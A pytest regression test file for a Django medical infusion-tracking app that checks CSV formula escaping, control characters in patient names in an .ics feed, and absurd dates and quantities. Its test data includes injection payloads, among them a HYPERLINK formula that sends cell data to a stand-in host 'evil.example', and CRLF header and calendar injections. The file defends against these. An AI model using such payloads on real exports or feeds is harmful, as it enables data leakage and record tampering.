"""Web regression tests for the defects of issue 10: formula cells in CSV files, control
characters in a patient's name (the .ics feed), absurd quantities and dates in forms."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from ivig.web import csv_safe
from ivig.web.infusions.models import InfusionEvent
from tests.web.test_infusions import approve, at, start, url

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("given", "written"),
    [
        ('=HYPERLINK("http://x.example","click")', '\'=HYPERLINK("http://x.example","click")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Privigen", "Privigen"),
        (-1.5, -1.5),
    ],
)
def test_csv_cells_that_could_start_a_formula_are_quoted(given, written):
    assert csv_safe.neutralise(given) == written


def test_a_formula_in_a_vial_brand_is_plain_text_in_the_summary_csv(client, world):
    client.force_login(world.nurse)
    running = start(client, world, approve(world))
    brand = '=HYPERLINK("http://evil.example/?d="&A1,"Privigen")'
    response = client.post(
        url(world, running, "record/vial/"),
        {"vial-at": at(running, 1), "vial-brand": brand, "vial-lot_number": "@LOT",
         "vial-expiry": "2030-01-31"},
    )
    assert response.status_code == 302
    assert InfusionEvent.objects.filter(kind="vial").exists()
    csv_response = client.get(f"/patients/{world.patient.pk}/infusions/summary.csv")
    assert csv_response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(csv_response.content.decode())) for cell in row]
    assert cells, "the summary has rows"
    assert not [c for c in cells if c.startswith(csv_safe.FORMULA_STARTS)]
    assert any(c.startswith("'=HYPERLINK") for c in cells), cells


def test_the_profile_form_refuses_control_characters_in_a_name(client, world):
    client.force_login(world.caregiver)
    patient = world.patient
    response = client.post(
        reverse("patients:edit", args=[patient.pk]),
        {"name": "Lucia\r\nX-INJECTED: 1", "birth_date": "2020-06-15", "sex": "female",
         "blood_group": "unknown"},
    )
    assert response.status_code == 200
    assert "control characters" in response.content.decode()
    patient.refresh_from_db()
    assert patient.name == "Lucia Alvarez"


def test_the_calendar_feed_survives_a_stored_name_with_line_breaks(client, world):
    from icalendar import Calendar

    from ivig.web.patients.models import Patient
    from tests.core import builders
    from tests.web.test_care_checkins import approve_document

    # A name stored before the form refused control characters.
    Patient.objects.filter(pk=world.patient.pk).update(name="Lucia\r\nBEGIN:VEVENT\nX")
    approve_document(world, builders.document())
    client.force_login(world.caregiver)
    response = client.get(f"/patients/{world.patient.pk}/calendar.ics?name=1")
    assert response.status_code == 200
    calendar = Calendar.from_ical(response.content)
    summaries = [str(e["SUMMARY"]) for e in calendar.walk("VEVENT")]
    assert summaries and all(s.startswith("Lucia BEGIN:VEVENT X: ") for s in summaries)
    assert len(summaries) == response.content.split(b"\r\n").count(b"BEGIN:VEVENT")


ABSURD_TIMES = ["0001-01-01T00:00", "1900-01-01T08:00", "2999-06-01T08:00", "9999-12-31T23:59"]


@pytest.mark.parametrize("when", ABSURD_TIMES)
def test_records_dated_in_absurd_years_are_refused(client, world, when):
    from ivig.web.infusions.models import HydrationEntry, Infusion
    from ivig.web.patients.models import Measurement

    approval = approve(world)
    client.force_login(world.nurse)
    patient = world.patient.pk
    counts = (Measurement.objects.count(), Infusion.objects.count(),
              InfusionEvent.objects.count(), HydrationEntry.objects.count())
    weight = client.post(
        reverse("patients:measurement_create", args=[patient]) + "?kind=weight",
        {"value": "20 kg", "taken_at": when},
    )
    started = client.post(
        f"/patients/{patient}/infusions/start/",
        {"approval": approval.pk, "day": 1, "started_at": when},
        follow=True,
    )
    drink = client.post(f"/patients/{patient}/hydration/", {"at": when, "volume": "200 mL"})
    running = start(client, world, approval)
    counts = (counts[0], counts[1] + 1, *counts[2:])
    rate = client.post(url(world, running, "rate/"), {"at": when, "rate": "0.5 mL/kg/h"})
    for response in (weight, started, drink, rate):
        assert response.status_code == 200
        body = response.content.decode()
        assert "too early" in body or "in the future" in body
    assert counts == (Measurement.objects.count(), Infusion.objects.count(),
                      InfusionEvent.objects.count(), HydrationEntry.objects.count())


def test_a_30_digit_weight_is_a_field_error(client, world):
    from ivig.web.patients.models import Measurement

    client.force_login(world.nurse)
    before = Measurement.objects.count()
    response = client.post(
        reverse("patients:measurement_create", args=[world.patient.pk]) + "?kind=weight",
        {"value": "999999999999999999999999999999 kg", "taken_at": "2026-01-01T08:00"},
    )
    assert response.status_code == 200
    assert "cannot be real" in response.content.decode()
    assert Measurement.objects.count() == before
